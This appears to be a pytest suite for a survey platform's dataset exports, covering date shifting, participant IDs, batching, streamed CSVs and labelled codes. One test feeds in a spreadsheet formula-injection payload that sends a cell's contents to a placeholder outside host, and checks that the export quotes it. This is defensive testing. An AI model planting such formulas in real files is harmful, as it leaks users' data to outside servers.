"""Dataset options (issue 7, point 3 and 5): date-shifted exports, the study ID as pid, batches
that give the same dataset as one pass, the streamed CSV, and text that would run as a formula."""

import io
from datetime import date, timedelta

import pandas as pd
import pytest
from pandas.testing import assert_frame_equal

from surveys.datasets import csv_rows, dataset_diary, dataset_long, dataset_wide
from surveys.datasets.pid import date_offset
from surveys.exports import ExportSpec, dataset_export
from surveys.instruments import instrument_items_set, version_items_as_dicts
from surveys.models import DiaryEntry, Instrument, Study, WaveInstrument
from tests.surveys.test_datasets import (  # noqa: F401 - fixtures
    BASELINE_ANSWERS,
    BASELINE_DAY,
    ENROLLED,
    ENROLMENT,
    MONTH1_DAY,
    cohort,
    design,
    followup_answers,
    row,
    submit,
)


def baseline_item_add(study, item: dict) -> None:
    """One more question at the end of the baseline (before anyone answered it)."""
    baseline = Instrument.objects.get(study=study, slug="baseline")
    items = [*version_items_as_dicts(baseline.current_version), item]
    for position, found in enumerate(items, start=1):
        found["position"] = position
    instrument_items_set(instrument=baseline, items=items)


@pytest.fixture
def dated(design, site_a, site_b, enrol):  # noqa: F811
    """The test study with a date question at baseline; two people answer it."""
    baseline_item_add(
        design, {"variable": "last_use_day", "kind": "date", "label": {"en": "Day of last use"}}
    )
    ana = enrol(site=site_a, enrolled_on=ENROLLED, now=ENROLMENT)
    ben = enrol(site=site_b, enrolled_on=ENROLLED + timedelta(days=3), now=ENROLMENT)
    submit(ana, "baseline", "baseline", {**BASELINE_ANSWERS, "last_use_day": "2026-01-10"},
           BASELINE_DAY)  # fmt: skip
    submit(ben, "baseline", "baseline", {**BASELINE_ANSWERS, "last_use_day": "2025-12-31"},
           BASELINE_DAY + timedelta(days=3))  # fmt: skip
    submit(ana, "m1", "followup", followup_answers(), MONTH1_DAY)
    return ana, ben


def _day(text: str) -> date:
    return date.fromisoformat(text)


def test_a_date_shifted_dataset_moves_each_persons_dates_by_one_offset(dated):
    ana, ben = dated
    plain = dataset_long(study=ana.study)
    shifted = dataset_long(study=ana.study, date_shift=True)
    assert row(plain, ana, "baseline")["last_use_day"] == -5  # days since enrolment
    people = ((ana, ENROLLED, "2026-01-10"), (ben, ENROLLED + timedelta(days=3), "2025-12-31"))
    for person, enrolled, used in people:
        offset = date_offset(study_id=person.study_id, participant_id=person.pk)
        assert 0 <= offset <= 364
        base = row(shifted, person, "baseline")
        assert _day(base["enrolled_on"]) == enrolled - timedelta(days=offset)
        assert _day(base["last_use_day"]) == _day(used) - timedelta(days=offset)
        # intervals hold: the shifted dates are as far apart as the real ones
        assert (_day(base["window_opened_on"]) - _day(base["enrolled_on"])).days == base[
            "days_since_enrolment"
        ]
        assert (_day(base["completed_on"]) - _day(base["window_opened_on"])).days == base[
            "days_since_window_opened"
        ]
    # not completed: no completion day; the same offset in every export of the study
    assert pd.isna(row(shifted, ben, "m1")["completed_on"])
    assert_frame_equal(shifted, dataset_long(study=ana.study, date_shift=True))
    # the real enrolment day appears nowhere in the shifted file
    text = "".join(csv_rows(shifted))
    offsets = {date_offset(study_id=p.study_id, participant_id=p.pk) for p in dated}
    if 0 not in offsets:
        assert ENROLLED.isoformat() not in text and "2026-01-10" not in text


def test_offsets_spread_over_the_year_and_differ_between_studies():
    offsets = [date_offset(study_id=1, participant_id=n) for n in range(2000)]
    assert min(offsets) == 0 and max(offsets) == 364
    assert len(set(offsets)) > 300
    assert offsets != [date_offset(study_id=2, participant_id=n) for n in range(2000)]


def test_a_missing_code_in_a_shifted_date_column_stays_a_code(dated):
    ana, _ = dated
    shifted = dataset_long(study=ana.study, date_shift=True)
    assert row(shifted, ana, "m3")["window_opened_on"] is not None
    assert row(shifted, ana, "m1")["last_use_day"] is pd.NA or pd.isna(
        row(shifted, ana, "m1")["last_use_day"]
    )  # another wave's question: empty
    m3_base = shifted[(shifted["wave"] == "baseline")]
    assert set(m3_base["last_use_day"].str.len()) == {10}  # both answered: ISO dates


def test_the_diary_takes_the_same_offset(dated):
    ana, _ = dated
    DiaryEntry.objects.create(
        participant=ana,
        group="na",
        format="inperson",
        occurred_on=ENROLLED + timedelta(days=4),
        client_id="00000000-0000-0000-0000-000000000001",
    )
    diary = dataset_diary(study=ana.study, date_shift=True)
    offset = date_offset(study_id=ana.study_id, participant_id=ana.pk)
    (found,) = diary["occurred_on"]
    assert _day(found) == ENROLLED + timedelta(days=4 - offset)
    assert "occurred_on" not in dataset_diary(study=ana.study).columns


def test_an_export_with_shifted_dates_through_the_admin(client, dated, coordinator_a):
    ana, _ = dated
    client.force_login(coordinator_a)
    reply = client.post(
        f"/admin/surveys/study/{ana.study_id}/export/",
        {"shape": "long", "format": "csv", "dates": "shifted"},
    )
    frame = pd.read_csv(io.BytesIO(b"".join(reply.streaming_content)))
    assert {"enrolled_on", "window_opened_on", "completed_on"} <= set(frame.columns)
    assert set(frame["site"]) == {"NYC"}  # still the coordinator's site only


def test_the_study_can_choose_its_study_id_as_pid(cohort):  # noqa: F811
    ana, ben = cohort
    study = ana.study
    study.export_id = Study.ExportId.STUDY_ID
    study.save(update_fields=["export_id"])
    frame = dataset_long(study=study)
    assert set(frame["pid"]) == {ana.code, ben.code}
    assert frame.attrs["columns"]["pid"]["label"].startswith("Study ID")
    wide = dataset_wide(frame)
    assert list(wide["pid"]) == sorted([ana.code, ben.code])


def test_batches_give_the_same_dataset_as_one_pass(cohort, site_a, enrol):  # noqa: F811
    ana = cohort[0]
    for n in range(5):
        extra = enrol(site=site_a, enrolled_on=ENROLLED, now=ENROLMENT)
        submit(extra, "baseline", "baseline", {**BASELINE_ANSWERS, "age": 20 + n}, BASELINE_DAY)
    whole = dataset_long(study=ana.study, covariates=["age"])
    for size in (1, 2, 3):
        assert_frame_equal(
            dataset_long(study=ana.study, covariates=["age"], batch_size=size), whole
        )


def test_the_streamed_wide_csv_is_the_wide_frame(cohort, site_a, enrol, monkeypatch):  # noqa: F811
    ana = cohort[0]
    for _ in range(3):
        enrol(site=site_a, enrolled_on=ENROLLED, now=ENROLMENT)
    from surveys.datasets import builder

    monkeypatch.setattr(builder, "BATCH_PARTICIPANTS", 2)  # three batches
    export = dataset_export(user=None, study=ana.study, spec=ExportSpec(shape="wide"))
    streamed = pd.read_csv(io.StringIO("".join(export.chunks)))
    expected = pd.read_csv(
        io.StringIO("".join(csv_rows(dataset_wide(dataset_long(study=ana.study)))))
    )
    assert export.rows == len(expected) == 5
    assert_frame_equal(streamed, expected)


def test_text_that_would_run_as_a_formula_is_quoted_in_the_csv(design, site_a, enrol):  # noqa: F811
    person = enrol(site=site_a, enrolled_on=ENROLLED, now=ENROLMENT)
    submit(
        person,
        "baseline",
        "baseline",
        {**BASELINE_ANSWERS, "story": '=HYPERLINK("http://x.example/?"&A1)'},
        BASELINE_DAY,
    )
    frame = dataset_long(study=person.study, include_free_text=True)
    text = "".join(csv_rows(frame))
    assert "'=HYPERLINK" in text
    assert ',"=HYPERLINK' not in text
    back = pd.read_csv(io.StringIO(text))
    assert (back["story"].dropna() == '\'=HYPERLINK("http://x.example/?"&A1)').any()
    assert (back["craving"] == 6).any()  # numbers are untouched; -98 codes stay numbers
    assert (back["attended_any"] == -98).any()


# --- Found by review: the column-by-column builder against the per-response one --------------


def test_covariates_of_someone_without_a_baseline_row_are_empty(cohort, site_a, enrol):  # noqa: F811
    ana = cohort[0]
    late = enrol(site=site_a, enrolled_on=ENROLLED, now=ENROLMENT)
    late.assignments.filter(wave__slug="baseline").delete()
    frame = dataset_long(study=ana.study, covariates=["age"])
    assert frame["pid"].dtype == "string" and frame["age_bl"].dtype == "Int64"
    assert row(frame, ana, "m1")["age_bl"] == 34
    assert pd.isna(row(frame, late, "m1")["age_bl"])


def test_a_wave_without_questions_keeps_its_rows(cohort):  # noqa: F811
    ana = cohort[0]
    WaveInstrument.objects.filter(wave__study=ana.study, wave__slug="m6").delete()
    frame = dataset_long(study=ana.study)
    assert row(frame, ana, "m6")["status"] == "not_yet_due"
    assert len(frame) == 2 * 5


def test_text_that_looks_like_an_empty_list_is_an_answer(design, site_a, enrol):  # noqa: F811
    person = enrol(site=site_a, enrolled_on=ENROLLED, now=ENROLMENT)
    submit(person, "baseline", "baseline", {**BASELINE_ANSWERS, "story": "[]"}, BASELINE_DAY)
    frame = dataset_long(study=person.study, include_free_text=True)
    assert row(frame, person, "baseline")["story"] == "[]"


def test_a_variable_with_a_double_underscore_is_read(design, site_a, enrol):  # noqa: F811
    baseline_item_add(
        design, {"variable": "pets__count", "kind": "integer", "label": {"en": "Pets"}}
    )
    person = enrol(site=site_a, enrolled_on=ENROLLED, now=ENROLMENT)
    submit(person, "baseline", "baseline", {**BASELINE_ANSWERS, "pets__count": 2}, BASELINE_DAY)
    assert row(dataset_long(study=design), person, "baseline")["pets__count"] == 2


def test_labels_replace_codes_in_decimal_columns_too(cohort):  # noqa: F811
    ana, ben = cohort
    frame = dataset_long(study=ana.study)
    labelled = pd.read_csv(io.StringIO("".join(csv_rows(frame, labels=True))))
    pid = row(frame, ben, "m1")["pid"]
    missed = labelled[(labelled["pid"] == pid) & (labelled["wave"] == "m1")].iloc[0]
    assert missed["meetings_online_share"].startswith("Wave missed")
    done = labelled[(labelled["pid"] == row(frame, ana, "m1")["pid"]) & (labelled["wave"] == "m1")]
    assert float(done.iloc[0]["meetings_online_share"]) == pytest.approx(3 / 8)
